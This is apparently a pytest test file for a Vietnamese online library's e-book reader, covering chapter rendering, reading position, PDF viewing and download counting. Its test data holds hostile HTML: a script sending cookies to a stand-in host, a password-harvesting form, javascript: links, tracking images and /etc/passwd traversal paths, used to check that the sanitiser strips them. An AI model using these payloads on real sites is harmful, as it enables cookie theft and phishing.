"""Reading online: chapters as clean HTML, contents, previous/next, the reader's place, PDFs in
the browser's viewer, downloads, and the counts of views and downloads."""

from __future__ import annotations

import io
import re

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from moduong.library import services
from moduong.library.models import BookFile, BookStats, ReadingPosition
from tests.factories import UserFactory

from .helpers import epub, pdf

pytestmark = pytest.mark.django_db

HOSTILE = [
    '<h1 onclick="steal()">Chương độc</h1>'
    "<script>document.location='https://xau.example/'+document.cookie</script>"
    '<p onmouseover="alert(1)" style="position:fixed">Đoạn văn <a href="javascript:alert(1)">'
    'bấm</a> và <a href="https://vi.wikipedia.org/">liên kết ngoài</a>.</p>'
    '<form action="https://xau.example/"><input name="mat-khau"/><button>Gửi</button></form>'
    '<iframe src="https://xau.example/"></iframe>'
    '<link rel="stylesheet" href="https://xau.example/kieu.css"/>'
    "<style>@font-face { src: url(https://xau.example/font.woff) } body { color: red }</style>"
    '<img src="https://xau.example/theo-doi.gif" alt="ngoài"/>'
    '<img src="bia.jpg" alt="Bìa sách"/>'
    '<img src="data:image/png;base64,AAAA" alt="nhúng"/>'
    '<p id="chu-thich">Chú thích <a href="chuong-2.xhtml#doan">sang chương hai</a></p>',
    '<h1>Chương hai</h1><p id="doan">Đoạn được nhắc đến.</p><a href="#chu-thich">lên</a>',
]


def _chapter(client, book, file_id: int, number: int):  # type: ignore[no-untyped-def]
    return client.get(f"{book.url}doc/{file_id}/{number}/")


def test_hostile_chapter_html_is_neutralised(
    client, make_book, django_capture_on_commit_callbacks
) -> None:  # type: ignore[no-untyped-def]
    content = epub(chapters=[("Chương độc", ()), ("Chương hai", ())], chapter_html=HOSTILE)
    with django_capture_on_commit_callbacks(execute=True):  # the text task reads the chapters
        book = make_book("Sách có mã độc", content)
    book_file = book.files.get()
    assert "được gỡ bỏ khi đọc sách trực tuyến" in book_file.notes  # the editor is told
    response = _chapter(client, book, book_file.pk, 1)
    assert response.status_code == 200
    html = response.content.decode()
    text = html[html.index('class="reader-text"') : html.index("reader-nav")]
    forbidden_parts = (
        *("<script", "onclick", "onmouseover", "<form", "<input", "<iframe", "<link"),
        *("<style", "xau.example", "javascript:", "data:image", "position:fixed"),
    )
    for forbidden in forbidden_parts:
        assert forbidden not in text, forbidden
    assert "Đoạn văn" in text and "Chương độc" in text  # the words stay
    assert (
        'href="https://vi.wikipedia.org/"' in text and 'rel="noopener noreferrer nofollow"' in text
    )
    # The book's own image is served from the book; the link between chapters stays inside.
    image = re.search(r'<img src="([^"]+)" alt="Bìa sách"', text)
    assert image and image.group(1) == f"/sach/tep/{book_file.pk}/OEBPS/bia.jpg"
    served = client.get(image.group(1))
    assert served.status_code == 200 and served["Content-Type"] == "image/jpeg"
    assert f'href="{book.url}doc/{book_file.pk}/2/#e-doan"' in text
    assert 'id="e-chu-thich"' in text
    # And the browser is told to load nothing from elsewhere anyway.
    assert "default-src 'self'" in response["Content-Security-Policy"]


def test_only_images_listed_in_the_book_are_served(client, make_book) -> None:  # type: ignore[no-untyped-def]
    book = make_book()
    book_file = book.files.get()
    assert client.get(f"/sach/tep/{book_file.pk}/OEBPS/bia.jpg").status_code == 200
    for name in ("OEBPS/content.opf", "META-INF/container.xml", "OEBPS/../../etc/passwd", "x.jpg"):
        assert client.get(f"/sach/tep/{book_file.pk}/{name}").status_code == 404
    book.unpublish()
    assert client.get(f"/sach/tep/{book_file.pk}/OEBPS/bia.jpg").status_code == 404


def test_reader_has_contents_previous_next_and_settings(client, make_book) -> None:  # type: ignore[no-untyped-def]
    book = make_book()
    book_file = book.files.get()
    first = _chapter(client, book, book_file.pk, 1).content.decode()
    assert "Mùa gặt" in first and "Ngày hội" in first  # the table of contents
    assert f'href="{book.url}doc/{book_file.pk}/2/" rel="next"' in first
    assert 'rel="prev"' not in first
    assert 'data-reader="larger"' in first and 'data-reader="dark"' in first
    last = _chapter(client, book, book_file.pk, 3).content.decode()
    assert 'rel="next"' not in last and f'{book.url}doc/{book_file.pk}/2/" rel="prev"' in last
    assert _chapter(client, book, book_file.pk, 4).status_code == 404
    assert _chapter(client, book, book_file.pk, 0).status_code == 404
    assert client.get(f"{book.url}doc/999999/1/").status_code == 404


def test_a_logged_in_reader_finds_the_place_where_they_stopped(client, make_book) -> None:  # type: ignore[no-untyped-def]
    book = make_book()
    book_file = book.files.get()
    _chapter(client, book, book_file.pk, 2)  # anonymous: nothing remembered
    assert not ReadingPosition.objects.exists()
    reader = UserFactory()
    client.force_login(reader)
    _chapter(client, book, book_file.pk, 3)
    page = client.get(book.url).content.decode()
    assert f"{book.url}doc/{book_file.pk}/3/" in page and "(phần 3)" in page
    start = client.get(f"{book.url}doc/")
    assert start["Location"] == f"{book.url}doc/{book_file.pk}/3/"
    # The reader may also save the place explicitly (a POST with the CSRF token).
    response = client.post(f"{book.url}vi-tri/", {"tep": book_file.pk, "chuong": 2})
    assert response.status_code == 204
    assert ReadingPosition.objects.get(user=reader, book=book).chapter == 2


def test_a_pdf_is_shown_in_the_browser_viewer_and_downloaded(client, library) -> None:  # type: ignore[no-untyped-def]
    book = services.book_create(library=library, title="Tài liệu sinh hoạt chi bộ")
    content = pdf(pages=["Trang một.", "Trang hai."])
    services.book_file_create(
        book=book, stream=io.BytesIO(content), size=len(content), name="a.pdf"
    )
    book_file = book.files.get()
    assert client.get(f"{book.url}doc/")["Location"] == f"{book.url}xem/{book_file.pk}/"
    viewer = client.get(f"{book.url}xem/{book_file.pk}/").content.decode()
    assert f'data="{book.url}tai-ve/{book_file.pk}/?xem=1" type="application/pdf"' in viewer
    shown = client.get(f"{book.url}tai-ve/{book_file.pk}/?xem=1")
    assert shown["Content-Disposition"].startswith("inline")
    assert shown["X-Frame-Options"] == "SAMEORIGIN"
    assert b"".join(shown.streaming_content) == content
    downloaded = client.get(f"{book.url}tai-ve/{book_file.pk}/")
    assert downloaded["Content-Disposition"].startswith("attachment")
    assert downloaded["Content-Type"] == "application/pdf"
    b"".join(downloaded.streaming_content)


def test_views_and_downloads_are_counted_without_a_write_per_request(client, make_book) -> None:  # type: ignore[no-untyped-def]
    book = make_book()
    book_file = book.files.get()
    url = f"{book.url}tai-ve/{book_file.pk}/"
    with CaptureQueriesContext(connection) as queries:
        b"".join(client.get(url).streaming_content)
    assert not [q for q in queries if q["sql"].upper().startswith(("UPDATE", "INSERT"))]
    for _ in range(services.FLUSH_EVERY - 1):
        b"".join(client.get(url).streaming_content)
    stats = BookStats.objects.get(book=book)  # the tenth download reached the database
    assert stats.downloads == services.FLUSH_EVERY
    for _ in range(services.FLUSH_EVERY):
        client.get(book.url)
    stats.refresh_from_db()
    assert stats.views == services.FLUSH_EVERY
    page = client.get(book.url).content.decode()
    assert "Lượt tải" in page


def test_a_damaged_stored_file_gives_a_friendly_page(client, make_book) -> None:  # type: ignore[no-untyped-def]
    book = make_book()
    book_file = book.files.get()
    with book_file.file.open("wb") as handle:
        handle.write(b"hong roi")
    BookFile.objects.filter(pk=book_file.pk).update(sha256="0" * 64)
    response = _chapter(client, book, book_file.pk, 1)
    assert response.status_code == 503
    assert "Traceback" not in response.content.decode()


def _position_writes(queries) -> list[str]:  # type: ignore[no-untyped-def]
    """Statements that write (or lock) the reader's place."""
    return [
        q["sql"]
        for q in queries
        if "library_readingposition" in q["sql"]
        and (q["sql"].lstrip().upper().startswith(("UPDATE", "INSERT")) or "FOR UPDATE" in q["sql"])
    ]


def test_reading_on_writes_the_place_only_when_it_changes(client, make_book) -> None:  # type: ignore[no-untyped-def]
    book = make_book()
    book_file = book.files.get()
    reader = UserFactory()
    client.force_login(reader)
    with CaptureQueriesContext(connection) as first:
        _chapter(client, book, book_file.pk, 2)
    assert len(_position_writes(first)) == 1  # the reader's first place: one INSERT
    with CaptureQueriesContext(connection) as again:
        _chapter(client, book, book_file.pk, 2)  # a reload of the same chapter
    assert _position_writes(again) == []
    with CaptureQueriesContext(connection) as onwards:
        _chapter(client, book, book_file.pk, 3)
    writes = _position_writes(onwards)
    assert len(writes) == 1 and writes[0].lstrip().upper().startswith("UPDATE")
    position = ReadingPosition.objects.get(user=reader, book=book)
    assert (position.file_id, position.chapter) == (book_file.pk, 3)


@pytest.mark.parametrize(
    "markup",
    [
        '<a href=" javascript:alert(1)">x</a>',
        '<a href="java&#x09;script:alert(1)">x</a>',
        '<a href="JaVaScRiPt:alert(1)">x</a>',
        '<a href="data:text/html,&lt;script&gt;">x</a>',
        '<img src="//xau.example/x.gif" alt="x">',
        '<img src="bia.jpg" srcset="https://xau.example/x 2x" onerror="alert(1)" alt="x">',
        '<p style="background:url(https://xau.example/x)">x</p>',
        '<svg><image href="https://xau.example/x"/></svg>',
        '<base href="https://xau.example/">',
        '<meta http-equiv="refresh" content="0;url=https://xau.example/">',
        '<object data="https://xau.example/x"></object><embed src="https://xau.example/y">',
        '<video poster="https://xau.example/p.jpg"></video>',
        '<input type="image" src="https://xau.example/">',
        '<table background="https://xau.example/x"><tr><td>x</td></tr></table>',
        '<a href="../../../etc/passwd">x</a>',
        '<img src="/etc/passwd" alt="x">',
    ],
)
def test_each_trick_in_chapter_html_is_neutralised(markup: str) -> None:
    from moduong.library.ebooks import render_chapter

    clean = render_chapter(
        markup,
        path="OEBPS/c1.xhtml",
        resource_url=lambda name: f"/sach/tep/1/{name}" if name == "OEBPS/bia.jpg" else None,
        chapter_url=lambda name: None,
    ).lower()
    for forbidden in ("javascript", "xau.example", "data:", "style=", "onerror", "<base", "<meta",
                      "<object", "<embed", "<svg", "<input", "srcset", "/etc/passwd"):  # fmt: skip
        assert forbidden not in clean, (forbidden, clean)


def test_turning_a_page_does_not_load_the_books_whole_text(client, make_book) -> None:  # type: ignore[no-untyped-def]
    book = make_book()
    book_file = book.files.get()
    _chapter(client, book, book_file.pk, 1)
    with CaptureQueriesContext(connection) as queries:
        assert _chapter(client, book, book_file.pk, 2).status_code == 200
        b"".join(client.get(f"{book.url}tai-ve/{book_file.pk}/").streaming_content)
    loaded = [q["sql"] for q in queries if '"library_bookfile"."text"' in q["sql"]]
    assert loaded == []


def test_the_book_page_contents_are_links_into_the_reader(client, make_book) -> None:  # type: ignore[no-untyped-def]
    from bs4 import BeautifulSoup

    book = make_book()
    book_file = book.files.get()
    page = BeautifulSoup(client.get(book.url).content, "html.parser")
    links = page.select(".book-contents a")
    # No contents typed by the editor: the EPUB's own, each to its part.
    assert [a.get_text() for a in links] == ["Mở đầu", "Mùa gặt", "Ngày hội"]
    assert links[1]["href"] == f"{book.url}doc/{book_file.pk}/2/"
    # The editor's lines link to the part they name, however they are typed, or to the start.
    book.table_of_contents = "NGÀY HỘI\nLời giới thiệu"
    book.save_revision().publish()
    page = BeautifulSoup(client.get(book.url).content, "html.parser")
    hrefs = {a.get_text(): a["href"] for a in page.select(".book-contents a")}
    assert hrefs == {
        "NGÀY HỘI": f"{book.url}doc/{book_file.pk}/3/",
        "Lời giới thiệu": f"{book.url}doc/",
    }
    # The reader counts its parts the Vietnamese way: "Phần 2/3".
    assert "Phần 2/3" in _chapter(client, book, book_file.pk, 2).content.decode()
